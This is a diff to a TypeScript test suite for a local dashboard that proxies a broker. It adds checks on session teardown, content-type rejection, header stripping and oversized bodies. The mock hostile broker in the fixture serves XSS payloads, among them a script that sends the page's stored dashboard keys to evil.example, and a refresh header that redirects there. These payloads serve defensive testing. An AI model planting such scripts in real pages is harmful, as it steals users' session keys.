@@ -69,6 +69,12 @@ describe("the page served by claudemesh dashboard", () => {
     expect((await me(aliceServed.json.local, bare)).status).toBe(401);
     expect((await me(bobServed.json.local, aliceCookie.split(";")[0]!)).status).toBe(401);
     expect(bobPort).not.toBe(alicePort);
+    // Stopped, it ends its page's session at the broker: a tab's cookie is then worth nothing to
+    // whoever takes the port next. The other dashboard's session goes on.
+    aliceServed.proc.kill("SIGINT");
+    expect(await aliceServed.proc.exited).toBe(0);
+    const atBroker = (c: string, port: string) => fetch(`${b.url}/v1/dashboard/me`, { headers: { cookie: c.split(";")[0]!.replace(`cm_dashboard_${port}=`, "cm_dashboard=") } }).then((r) => r.status);
+    expect([await atBroker(aliceCookie, alicePort!), await atBroker(bobCookie, bobPort!)]).toEqual([401, 200]);
   }, 60_000);
 
   test("a state-changing call from another origin is refused before the broker; from the page's own it reaches it", async () => {
@@ -116,6 +122,8 @@ describe("the page served by claudemesh dashboard", () => {
           ? new Response("not under /mesh", { status: 404 })
           : new URL(req.url).pathname === "/mesh/health"
           ? Response.json({ ok: true })
+          : new URL(req.url).pathname === "/mesh/v1/dashboard/listed"
+          ? new Response("<script>alert(1)</script>", { headers: { "content-type": "application/json, text/html" } })
           : new URL(req.url).pathname === "/mesh/v1/dashboard/session"
             ? new Response("<script>fetch('https://evil.example/?k='+sessionStorage.getItem('claudemesh.dashboard.keys'))</script>", { headers: { "content-type": "text/html" } })
             : Response.json({ member: false, operator: false }, { headers: { refresh: "0; url=https://evil.example/", "content-security-policy": "default-src *", "x-evil": "1" } }),
@@ -124,10 +132,16 @@ describe("the page served by claudemesh dashboard", () => {
     saveConfig(ids.dirs[0]!, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: `${evil.url.origin}/mesh` })) });
     await using served = await dashboardServing(ids.dirs[0]!);
     const page = await fetch(`${served.json.local}v1/dashboard/session`);
-    expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with text/html, not the dashboard's JSON")]);
+    expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with 200 text/html, not the dashboard's JSON")]);
+    // A list of types (browsers take the last) is not JSON either.
+    const listed = await fetch(`${served.json.local}v1/dashboard/listed`);
+    expect([listed.status, ((await listed.json()) as any).error.code]).toEqual([503, "unavailable"]);
     const json = await fetch(`${served.json.local}v1/dashboard/me`);
     expect(await json.json()).toEqual({ member: false, operator: false });
-    expect([json.headers.get("refresh"), json.headers.get("x-evil"), json.headers.get("content-security-policy")]).toEqual([null, null, expect.stringContaining("default-src 'self'")]);
+    expect([json.headers.get("content-type"), json.headers.get("refresh"), json.headers.get("x-evil"), json.headers.get("content-security-policy")]).toEqual(["application/json;charset=utf-8", null, null, expect.stringContaining("default-src 'self'")]);
+    // A body past 1 MiB is refused before it is read in full.
+    const big = await fetch(`${served.json.local}v1/dashboard/logout`, { method: "POST", body: "x".repeat(2 << 20) });
+    expect(big.status).toBe(413);
   }, 60_000);
 
   test("refused at start: a bad --port or one in use (exit 2), a broker that cannot be reached (exit 6)", async () => {
